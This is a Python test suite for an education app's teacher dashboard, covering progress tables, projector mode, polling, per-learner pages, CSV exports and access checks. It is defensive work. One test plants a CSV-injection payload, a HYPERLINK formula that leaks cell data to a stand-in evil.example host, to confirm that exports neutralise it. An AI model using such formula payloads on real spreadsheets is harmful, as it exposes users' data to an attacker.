"""The class dashboard: the class table, a lesson's stats (live, and in projector mode),
a page per learner, the CSV exports, and who may see any of it."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import event, select

from hyperlesson.extensions import db
from hyperlesson.records.models import Account
from hyperlesson.web.class_csv import csv_text, neutralise

from .helpers import HTMX, LESSON, correct_choice, csrf_token, wrong_choice

PASSWORD = "correct horse battery"
RIGHT_NAME, WRONG_NAME = "Жанна", "-Bob"  # non-Latin; a leading "-" (a formula start)
STATS = "/lessons/python-backend/http-basics"


def signed_up(app, username: str):
    client = app.test_client()
    response = client.post("/signup", data={
        "csrf_token": csrf_token(client, "/signup"), "username": username,
        "password": PASSWORD, "confirm": PASSWORD})
    assert response.status_code == 303, response.get_data(as_text=True)
    return client


def teacher_client(app, name: str = "teacher"):
    result = app.test_cli_runner().invoke(args=["users", "create-teacher", name],
                                          env={"HYPERLESSON_NEW_PASSWORD": PASSWORD})
    assert result.exit_code == 0, result.output
    client = app.test_client()
    client.post("/login", data={"csrf_token": csrf_token(client, "/login"),
                                "username": name, "password": PASSWORD})
    return client


def new_class(teacher, name: str = "7B") -> tuple[str, str]:
    """(the class's URL, its join code)."""
    made = teacher.post("/teach/classes", data={"csrf_token": csrf_token(teacher, "/teach/"),
                                                "name": name})
    url = made.headers["Location"]
    code = re.search(r'class="join-code">([A-Z0-9-]+)<', teacher.get(url).get_data(as_text=True))
    return url, code.group(1)


def join(learner, code: str) -> None:
    joined = learner.post("/join", data={"csrf_token": csrf_token(learner, "/join"),
                                         "code": code})
    assert joined.status_code == 303


def answer(learner, choice: str, question: str = "q1"):
    return learner.post(f"{LESSON}/quiz/{question}", headers=HTMX,
                        data={"csrf_token": csrf_token(learner), "choice": choice})


def learner_id(app, username: str) -> int:
    with app.app_context():
        return db.session.scalar(select(Account.learner_id).filter_by(username=username))


def text(response) -> str:
    return re.sub(r"\s+", " ", response.get_data(as_text=True))


def poll_url(page: str, element_id: str) -> str:
    found = re.search(rf'id="{element_id}"[^>]*hx-get="([^"]+)"', page)
    return found.group(1).replace("&amp;", "&")


@pytest.fixture
def two_answers(app):
    """A class whose two learners answered question 1: one right, one wrong."""
    teacher = teacher_client(app)
    url, code = new_class(teacher)
    learners = {}
    for name, choice in ((RIGHT_NAME, correct_choice(app)), (WRONG_NAME, wrong_choice(app))):
        learners[name] = signed_up(app, name)
        join(learners[name], code)
        assert answer(learners[name], choice).status_code == 200
    return teacher, url, learners


def test_the_class_table_shows_each_learner_by_lesson(app, two_answers):
    teacher, url, _ = two_answers
    page = text(teacher.get(url))
    table = page[page.index('id="class-progress"'):page.index("Download as CSV")]
    assert RIGHT_NAME in table and WRONG_NAME in table
    assert f'href="{url}{STATS}">HTTP basics</a> <span class="meta">2 started</span>' in table
    assert "Quiz 1/6" in table and "Quiz 0/6" in table
    assert f'href="{url}/learners/{learner_id(app, RIGHT_NAME)}"' in table
    assert 'hx-trigger="every 5s" hx-swap="outerHTML"' in table


def test_the_lesson_stats_count_each_first_answer(app, two_answers):
    teacher, url, _ = two_answers
    page = text(teacher.get(url + STATS))
    question = page[page.index('id="stats-q1"'):page.index('id="stats-q2"')]
    assert "2 answered · 1 right on the first try (50%) · 1 right in the end" in question
    counts = re.findall(r'class="stat-number">(\d+)</span>', question)
    assert sorted(counts) == ["0", "0", "1", "1"]
    assert question.count('class="bar-w50"') == 2  # each one of two: half the bar
    assert "✓ right answer" in question and RIGHT_NAME in question and WRONG_NAME in question
    assert "2 of 2 learners started this lesson" in re.sub(r"</?strong>", "", page)


def test_projector_mode_hides_names_and_the_right_answer(app, two_answers):
    teacher, url, _ = two_answers
    page = text(teacher.get(url + STATS + "?projector=1"))
    assert RIGHT_NAME not in page and WRONG_NAME not in page
    assert "right answer" not in page.replace("no right answers", "")
    assert 'class="is-right"' not in page
    assert re.findall(r'class="stat-number">1</span>', page)  # the counts stay
    assert "Leave projector mode" in page
    poll = poll_url(page, "lesson-stats")
    assert "projector=1" in poll
    old = poll.replace(re.search(r"v=(\w+)", poll).group(1), "old")
    fragment = text(teacher.get(old, headers=HTMX))
    assert RIGHT_NAME not in fragment and "✓ right answer" not in fragment
    assert "Projector mode</a>" in text(teacher.get(url + STATS))


def test_a_poll_answers_204_until_something_changes(app, two_answers):
    teacher, url, learners = two_answers
    poll = poll_url(teacher.get(url).get_data(as_text=True), "class-progress")
    unchanged = teacher.get(poll, headers=HTMX)
    assert unchanged.status_code == 204 and unchanged.data == b""
    assert "HX-Request" in unchanged.headers["Vary"]
    answer(learners[WRONG_NAME], correct_choice(app))  # a second try: something new
    changed = teacher.get(poll, headers=HTMX)
    body = changed.get_data(as_text=True)
    assert changed.status_code == 200 and "<html" not in body
    assert body.lstrip().startswith('<div id="class-progress"')
    assert "HX-Request" in changed.headers["Vary"]
    newer = poll_url(body, "class-progress")
    assert newer != poll and teacher.get(newer, headers=HTMX).status_code == 204
    # Without htmx the fragment's URL is the class page.
    plain = teacher.get(newer)
    assert plain.status_code == 303 and plain.headers["Location"].endswith(
        url + "#class-progress")


def test_the_lesson_stats_poll_the_same_way(app, two_answers):
    teacher, url, learners = two_answers
    page = teacher.get(url + STATS)
    assert "<html" in page.get_data(as_text=True) and "HX-Request" in page.headers["Vary"]
    poll = poll_url(page.get_data(as_text=True), "lesson-stats")
    assert teacher.get(poll, headers=HTMX).status_code == 204
    learners[RIGHT_NAME].post(f"{LESSON}/sections/what-is-http/reached",
                              data={"csrf_token": csrf_token(learners[RIGHT_NAME])})
    fragment = teacher.get(poll, headers=HTMX).get_data(as_text=True)
    assert "<html" not in fragment and fragment.lstrip().startswith('<div id="lesson-stats"')
    # Without htmx: the whole page, with the same data, whatever version it names.
    assert "<html" in teacher.get(poll).get_data(as_text=True)


def test_the_version_moves_with_deletions_and_members_too(app, two_answers):
    teacher, url, learners = two_answers
    first = poll_url(teacher.get(url).get_data(as_text=True), "class-progress")
    bob = learners[WRONG_NAME]
    bob.post("/me/delete", data={"csrf_token": csrf_token(bob, "/me/delete"),
                                 "password": PASSWORD})
    after = teacher.get(first, headers=HTMX).get_data(as_text=True)  # fewer attempts
    assert WRONG_NAME not in after and RIGHT_NAME in after
    second = poll_url(teacher.get(url).get_data(as_text=True), "class-progress")
    remove = f"{url}/learners/{learner_id(app, RIGHT_NAME)}/remove"
    teacher.post(remove, data={"csrf_token": csrf_token(teacher, url)})
    after = teacher.get(second, headers=HTMX).get_data(as_text=True)
    assert RIGHT_NAME not in after


def test_start_over_keeps_the_teachers_first_tries(app, two_answers):
    """"Start over" clears the learner's own view of the quiz; a wrong first try stays
    in every figure the teacher reads, so it cannot be erased by starting over."""
    teacher, url, learners = two_answers
    bob = learners[WRONG_NAME]
    poll = poll_url(teacher.get(url).get_data(as_text=True), "class-progress")
    bob.post(f"{LESSON}/quiz/start-over", headers=HTMX, data={"csrf_token": csrf_token(bob)})
    assert teacher.get(poll, headers=HTMX).status_code == 204  # nothing changed here
    assert "1 of 6 correct on the first try" in text(answer(bob, correct_choice(app)))
    table = text(teacher.get(url))
    bob_row = table[table.index(f">{WRONG_NAME}<"):]
    assert "Quiz 0/6" in bob_row[:bob_row.index("</tr>")]
    stats = text(teacher.get(url + STATS))
    question = stats[stats.index('id="stats-q1"'):stats.index('id="stats-q2"')]
    assert "2 answered · 1 right on the first try (50%) · 2 right in the end" in question
    rows = {row[0]: row for row in csv_rows(teacher.get(url + "/progress.csv"))}
    assert rows["'" + WRONG_NAME][4:6] == ["0", "6"]
    answers = [row[4] for row in csv_rows(teacher.get(url + "/attempts.csv"))
               if row[0] == "'" + WRONG_NAME]
    assert answers == ["no", "yes"]
    page = text(teacher.get(f"{url}/learners/{learner_id(app, WRONG_NAME)}"))
    assert page.index("✗ Wrong:") < page.index("✓ Right:")
    assert "0 of 6 right on the first try" in page
    # The teacher sees which answers the learner cleared, and only those.
    wrong_row = page[page.index("✗ Wrong:"):page.index("✓ Right:")]
    assert "cleared by Start over" in wrong_row
    assert page.count("cleared by Start over") == 1


def test_the_learner_page_shows_everything_they_did_in_order(app, two_answers):
    teacher, url, learners = two_answers
    bob = learners[WRONG_NAME]
    answer(bob, correct_choice(app))
    bob.post(f"{LESSON}/sections/what-is-http/reached", data={"csrf_token": csrf_token(bob)})
    bob.get(f"{LESSON}/faq/faq-1?open=1", headers=HTMX)
    bob.post("/tryit/send", data={"csrf_token": csrf_token(bob), "method": "GET",
                                  "path": "/sandbox/status/404"})
    page = text(teacher.get(f"{url}/learners/{learner_id(app, WRONG_NAME)}"))
    assert page.index("✗ Wrong:") < page.index("✓ Right:")
    assert "Question 1" in page and "What is HTTP?: reached" in page
    assert "What is the difference between HTTP and HTTPS?: opened once" in page
    assert re.search(r"<code>GET /sandbox/status/404</code></td> <td><span class=\"history-"
                     r"status status-4xx\">404</span> Not Found", page)
    assert RIGHT_NAME not in page


def test_a_learner_who_only_answered_is_not_shown_as_having_read(app, two_answers):
    """The percent counts sections read, questions answered and tasks done, as the
    lesson page's "N% complete" says: labelled "read", it told the teacher (and the
    learner on My progress) that someone who read nothing had read part of the lesson."""
    teacher, url, learners = two_answers
    page = text(teacher.get(f"{url}/learners/{learner_id(app, RIGHT_NAME)}"))
    assert 'What is HTTP?: <span class="meta">not reached</span>' in page
    assert re.search(r"<p>\d+% complete · 1 of 6 right on the first try</p>", page)
    assert "% read" not in page
    me = text(learners[RIGHT_NAME].get("/me"))
    assert '<th scope="col">Complete</th>' in me and '<th scope="col">Read</th>' not in me
    assert "percent read" not in text(teacher.get(url))


def csv_rows(response) -> list[list[str]]:
    data = response.data
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


TASK_COLUMNS = ["Send a query parameter (http-basics)",
                "Get a 404 from a real resource (http-basics)"]


def do_the_404_task(learner) -> None:
    """Meet http-basics' "Get a 404" task with the learner's key, as curl would, and
    open the lesson, which grades it."""
    page = learner.get(LESSON).get_data(as_text=True)
    key = re.search(r"X-Sandbox-Key: ([A-Za-z0-9_-]+)", page).group(1)
    assert learner.get("/sandbox/users/999", headers={"X-Sandbox-Key": key}).status_code == 404
    learner.get(LESSON)


def test_the_csv_exports(app, two_answers):
    teacher, url, learners = two_answers
    do_the_404_task(learners[RIGHT_NAME])
    progress = teacher.get(url + "/progress.csv")
    assert progress.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert progress.headers["Content-Disposition"] == 'attachment; filename=7B-progress.csv'
    rows = csv_rows(progress)
    assert rows[0] == ["username", "track", "lesson", "percent complete", "first-try correct",
                       "questions", "last active", "tasks done", "tasks", *TASK_COLUMNS]
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name[RIGHT_NAME][1:3] == ["python-backend", "http-basics"]
    assert by_name[RIGHT_NAME][4:6] == ["1", "6"]
    assert by_name["'" + WRONG_NAME][4:6] == ["0", "6"]  # a formula start, neutralised
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", by_name[RIGHT_NAME][6])
    assert by_name[RIGHT_NAME][7:] == ["1", "2", "no", "yes"]
    assert by_name["'" + WRONG_NAME][7:] == ["0", "2", "no", "no"]
    attempts = csv_rows(teacher.get(url + "/attempts.csv"))
    assert attempts[0] == ["username", "lesson", "question", "choice", "correct", "time"]
    assert sorted(row[0] for row in attempts[1:]) == sorted(["'" + WRONG_NAME, RIGHT_NAME])
    right = next(row for row in attempts if row[0] == RIGHT_NAME)
    assert right[1:5] == ["python-backend/http-basics", "q1", correct_choice(app).upper(), "yes"]


def test_task_columns_are_blank_for_another_lessons_rows(app, two_answers):
    teacher, url, learners = two_answers
    do_the_404_task(learners[RIGHT_NAME])
    join_rest_api = learners[WRONG_NAME].post(
        "/learn/python-backend/rest-api/quiz/q1", headers=HTMX,
        data={"csrf_token": csrf_token(learners[WRONG_NAME]), "choice": "a"})
    assert join_rest_api.status_code == 200
    rows = csv_rows(teacher.get(url + "/progress.csv"))
    rest_columns = [column for column in rows[0][9:] if column.endswith("(rest-api)")]
    assert len(rest_columns) == 3 and rows[0][9:11] == TASK_COLUMNS
    for row in rows[1:]:
        http_cells, rest_cells = row[9:11], row[11:]
        if row[2] == "http-basics":
            assert rest_cells == ["", "", ""] and row[8] == "2"
        else:
            assert http_cells == ["", ""] and rest_cells == ["no", "no", "no"]
            assert row[7:9] == ["0", "3"]


def test_a_task_title_never_becomes_a_formula(tmp_path, migrated_db):
    import shutil

    from ..conftest import PROJECT_LESSONS, make_app

    lessons = tmp_path / "lessons"
    shutil.copytree(PROJECT_LESSONS / "python-backend", lessons / "python-backend")
    lesson = lessons / "python-backend" / "http-basics.md"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    lesson.write_text(lesson.read_text(encoding="utf-8").replace(
        "title: Send a query parameter", f"title: {hostile}"), encoding="utf-8")
    shutil.copy(migrated_db, tmp_path / "h.db")
    app = make_app(tmp_path / "h.db", LESSONS_DIR=str(lessons), LESSON_CACHE=False)
    teacher = teacher_client(app)
    url, code = new_class(teacher)
    learner = signed_up(app, "Ada")
    join(learner, code)
    assert answer(learner, correct_choice(app)).status_code == 200
    header = csv_rows(teacher.get(url + "/progress.csv"))[0]
    assert header[9] == f"'{hostile} (http-basics)"


def test_an_empty_class_gives_the_header_only_and_names_survive(app):
    teacher = teacher_client(app)
    url, _ = new_class(teacher, 'Ünï, "Web" =1')
    for kind, header in (("progress", "username,track,lesson"), ("attempts", "username,")):
        response = teacher.get(f"{url}/{kind}.csv")
        rows = csv_rows(response)
        assert len(rows) == 1 and ",".join(rows[0]).startswith(header)
        assert response.data.decode("utf-8").count("\r\n") == 1  # the header line only
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("attachment; filename=")
        assert f"filename*=UTF-8''%C3%9Cn%C3%AF%2C%20Web%20%3D1-{kind}.csv" in disposition
    assert "Nobody has joined yet" in teacher.get(url).get_data(as_text=True)


def test_csv_cells_are_quoted_and_never_formulas():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert neutralise("Ada") == "Ada" and neutralise(-3) == -3
    written = csv_text(["name", "n"], [['Doe, "Jo"', 1], ["=HYPERLINK(1)", 2], ["Жанна", 3]])
    assert written.startswith("\ufeffname,n\r\n")
    assert list(csv.reader(io.StringIO(written[1:], newline=""))) == [
        ["name", "n"], ['Doe, "Jo"', "1"], ["'=HYPERLINK(1)", "2"], ["Жанна", "3"]]
    assert '"Doe, ""Jo""",1' in written


def dashboard_urls(url: str, learner: int) -> list[str]:
    return [f"{url}/progress?v=x", url + STATS, url + STATS + "?projector=1",
            f"{url}/learners/{learner}", f"{url}/progress.csv", f"{url}/attempts.csv"]


def test_another_teacher_gets_404_on_every_dashboard_url(app, two_answers):
    _, url, _ = two_answers
    other = teacher_client(app, "other-teacher")
    for address in dashboard_urls(url, learner_id(app, RIGHT_NAME)):
        for headers in ({}, HTMX):
            assert other.get(address, headers=headers).status_code == 404, address


def test_a_learner_not_in_the_class_is_404(app, two_answers):
    teacher, url, _ = two_answers
    signed_up(app, "outsider")
    for learner in (learner_id(app, "outsider"), 10**6, 2**63):
        assert teacher.get(f"{url}/learners/{learner}").status_code == 404
    assert teacher.get(f"{url}/lessons/python-backend/no-such-lesson").status_code == 404


def count_queries(app, client, url: str, headers=None) -> tuple[int, int]:
    statements = []
    with app.app_context():
        engine = db.engine
    listener = lambda *args: statements.append(args[2])  # noqa: E731
    event.listen(engine, "before_cursor_execute", listener)
    try:
        status = client.get(url, headers=headers or {}).status_code
    finally:
        event.remove(engine, "before_cursor_execute", listener)
    return status, len(statements)


def test_polls_cost_a_few_queries_however_many_learners(app, two_answers):
    teacher, url, _ = two_answers
    poll = poll_url(teacher.get(url).get_data(as_text=True), "class-progress")
    status, unchanged = count_queries(app, teacher, poll, HTMX)
    assert status == 204 and unchanged <= 3  # the account, the class, the version
    stale = poll.replace(re.search(r"v=(\w+)", poll).group(1), "old")
    _, with_two = count_queries(app, teacher, stale, HTMX)
    _, stats_two = count_queries(app, teacher, url + STATS, HTMX)
    code = re.search(r'class="join-code">([A-Z0-9-]+)<', teacher.get(url).get_data(
        as_text=True)).group(1)
    for number in range(3):
        extra = signed_up(app, f"extra{number}")
        join(extra, code)
        answer(extra, wrong_choice(app))
    assert count_queries(app, teacher, stale, HTMX)[1] == with_two
    assert count_queries(app, teacher, url + STATS, HTMX)[1] == stats_two
